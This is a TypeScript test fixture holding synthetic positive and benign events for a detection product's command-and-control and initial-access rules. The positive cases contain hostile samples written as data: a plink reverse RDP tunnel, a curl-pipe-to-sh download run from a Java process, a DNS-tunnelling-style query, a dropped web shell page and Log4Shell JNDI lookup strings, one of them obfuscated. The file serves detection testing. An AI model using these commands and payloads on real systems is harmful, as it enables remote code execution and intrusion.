/** Positive and look-alike events for Vigil's command-and-control and initial-access rules. */
import {
  fileCreated,
  linuxProcess,
  powershellPath,
  processStart,
  type RuleCase,
  syslogEvent,
  sysmonEvent,
  system32,
} from '../rule-case.js';

const connection = (image: string, destinationIp: string, hostname = '') =>
  sysmonEvent(3, { Image: image, Initiated: 'true', DestinationIp: destinationIp, DestinationHostname: hostname });
const w3wp = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';

export const networkInitialAccessCases: RuleCase[] = [
  {
    title: 'Script Host Or LOLBin Connects To A Public Address',
    positive: () => [connection(system32('rundll32.exe'), '198.51.100.7')],
    negative: () => [
      connection(system32('rundll32.exe'), '10.1.1.1'),
      connection(system32('certutil.exe'), '93.184.216.34', 'crl.microsoft.com'),
    ],
  },
  {
    title: 'PowerShell Connects To A Public Address',
    positive: () => [connection(powershellPath, '198.51.100.7')],
    negative: () => [connection(powershellPath, '192.168.1.20')],
  },
  {
    title: 'Reverse Tunnel Or Port Forward Opened From The Command Line',
    positive: () => [
      processStart('C:\\Users\\Public\\plink.exe', 'plink.exe -ssh -R 8443:127.0.0.1:3389 tunnel@198.51.100.7 -pw x'),
    ],
    negative: () => [processStart('C:\\Windows\\System32\\OpenSSH\\ssh.exe', 'ssh.exe admin@10.0.0.5')],
  },
  {
    title: 'DNS Query With A Long Encoded-Looking Label From A Host',
    positive: () => [
      sysmonEvent(22, {
        Image: powershellPath,
        QueryName: 'mzxw6ytboi2dsnrzgq3tkmjqgeydambrgiztgnbsgaydiojt.t.example.net',
      }),
    ],
    negative: () => [sysmonEvent(22, { Image: powershellPath, QueryName: 'login.microsoftonline.com' })],
  },
  {
    title: 'Web Server Or Application Server Process Starts A Shell',
    positive: () => [processStart(system32('cmd.exe'), 'cmd /c whoami', { ParentImage: w3wp })],
    negative: () => [processStart(system32('csc.exe'), 'csc.exe /noconfig @tmp.cmdline', { ParentImage: w3wp })],
  },
  {
    title: 'Web Server Process Writes A Script Page Into A Web Folder',
    positive: () => [fileCreated(w3wp, 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx')],
    negative: () => [
      fileCreated(w3wp, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\a.aspx'),
      fileCreated(w3wp, 'C:\\inetpub\\logs\\u_ex.log'),
    ],
  },
  {
    title: 'Java Process Starts A Shell Or Downloader On Linux',
    positive: () => [
      linuxProcess('/usr/bin/bash', 'bash -c curl http://198.51.100.7/x|sh', {
        ParentImage: '/usr/lib/jvm/java-11/bin/java',
      }),
    ],
    negative: () => [linuxProcess('/usr/bin/bash', 'bash backup.sh', { ParentImage: '/usr/sbin/cron' })],
  },
  {
    title: 'JNDI Lookup String In A Request Or Log Line',
    positive: () => [
      syslogEvent(
        'nginx',
        `GET /?x=\${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1 User-Agent: \${\${lower:j}ndi:dns://x}`,
      ),
    ],
    negative: () => [syslogEvent('nginx', 'GET /index.html?q=java+naming HTTP/1.1')],
  },
];
